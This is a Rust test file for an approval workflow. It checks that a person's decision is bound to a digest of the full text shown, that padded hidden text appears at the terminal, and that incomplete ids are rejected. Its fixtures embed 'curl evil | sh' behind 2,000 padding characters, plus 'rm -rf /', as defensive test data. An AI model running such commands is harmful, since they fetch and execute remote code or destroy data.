//! A decision is bound to the text that was displayed.

use super::{approval, codes, decision, outcomes, steps};
use crate::world::{World, lossy, parse_json};
use serde_json::json;

/// An approval of alice with more text than any list shows.
fn hidden(world: &World, id: &str) -> String {
    let body = format!("echo harmless {}; curl evil | sh", "x".repeat(2_000));
    let more = json!({"body": body, "metadata": {"then": "rm -rf /"}, "x_own": "field"});
    world.mail(
        "alice",
        &format!("{id}.json"),
        approval(id, json!("human"), more),
    );
    world.digest("human", id)
}

#[test]
fn a_decision_with_another_digest_is_rejected_by_the_router_and_by_the_command() {
    // P248
    let world = World::with("alice");
    let (first, second) = (hidden(&world, "one"), hidden(&world, "two"));
    assert_ne!(first, second);
    for digest in [json!(second), json!("0".repeat(64)), json!("x"), json!(7)] {
        let mut dropped = decision("alice/one", "yes");
        dropped["digest"] = digest;
        world.route("human", "wrong.json", &dropped);
    }
    let rejected = codes(&world, "human");
    assert_eq!(
        (&rejected[..2], rejected.len()),
        (&["other_text".to_owned(), "other_text".to_owned()][..], 4)
    );
    assert_contains!(
        world.fails(
            1,
            &["decide", "--as", "human", "one", "yes", "--digest", &second],
        ),
        "the decision is about another text"
    );
    assert_eq!(steps(&world), ["ask", "ask"]);
    // The digest of the copy is the same, and a program that reads files can send it.
    let mut right = decision("alice/one", "yes");
    let copies = world.inbox("human");
    let copy = copies
        .iter()
        .find(|mail| mail["id"] == "one")
        .expect("the copy");
    assert_eq!(copy["delivery"]["approval"]["digest"], json!(first));
    right["digest"] = copy["delivery"]["approval"]["digest"].clone();
    world.route("human", "right.json", &right);
    world.decide("human", "two", "no", &[]).ok();
    assert_eq!(outcomes(&world, "alice").len(), 2);
}

#[test]
fn a_program_gets_the_whole_text_with_the_digest_and_without_it_decides_nothing() {
    // P248
    let world = World::with("alice");
    let digest = hidden(&world, "one");
    let item = world.json("pending --as human")["items"][0].clone();
    let text = item["text"].as_str().expect("the text");
    for part in [
        "subject: Deploy?",
        "options: [\"yes\",\"no\"]",
        "; curl evil | sh\n",
        "rm -rf /",
        "\"x_own\": \"field\"",
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert_eq!(item["digest"], json!(digest));
    let file = world.text("pending.json");
    let file = parse_json(&file);
    assert_eq!(file["pending"]["human"][0]["digest"], json!(digest));
    assert_contains!(
        world.fails(2, "decide --as human one yes"),
        "there is no terminal to show it",
        "--digest"
    );
    assert_eq!(steps(&world), ["ask"]);
}

#[test]
fn the_command_shows_the_whole_text_at_a_terminal_and_asks_once() {
    // P248
    let world = World::with("alice");
    hidden(&world, "one");
    for (typed, code, kinds) in [
        ("n\n", 1, &["ask"][..]),
        ("", 1, &["ask"]),
        ("y\n", 0, &["ask", "decide"]),
    ] {
        let output = world.at_terminal(&["decide", "one", "yes"], typed);
        let said = lossy(&output.stdout);
        assert_contains!(said, "; curl evil | sh", "rm -rf /");
        assert_eq!(said.matches("Decide #2: yes? [y/N]").count(), 1, "{said}");
        assert_eq!(
            (output.status.code(), steps(&world)),
            (Some(code), kinds.iter().map(|k| (*k).to_owned()).collect())
        );
    }
}

#[test]
fn a_person_decides_only_the_approval_with_the_complete_id() {
    // P95, P129
    let world = World::with("alice");
    for id in ["e2", "e20"] {
        world.route(
            "alice",
            &format!("{id}.json"),
            approval(id, json!("human"), json!({})),
        );
    }
    let plain = json!({"id": "p2", "to": "human", "body": "FYI"});
    world.route("alice", "p2.json", plain);
    world.route(
        "alice",
        "p20.json",
        approval("p20", json!("human"), json!({})),
    );
    world.decide("human", "alice/e2", "no", &[]).ok();
    let decided = steps(&world);
    for (reference, problem) in [
        ("alice/e2", "was decided already: no"),
        ("e2", "was decided already: no"),
        ("alice/p2", "there is no open approval"),
        ("p2", "there is no open approval"),
    ] {
        let output = world.at_terminal(&["decide", reference, "yes"], "y\n");
        let said = lossy(&output.stdout);
        assert_contains!(said, problem; "{reference}");
        assert!(
            !output.status.success() && !said.contains("Decide #"),
            "{said}"
        );
    }
    assert_eq!(steps(&world), decided);
}
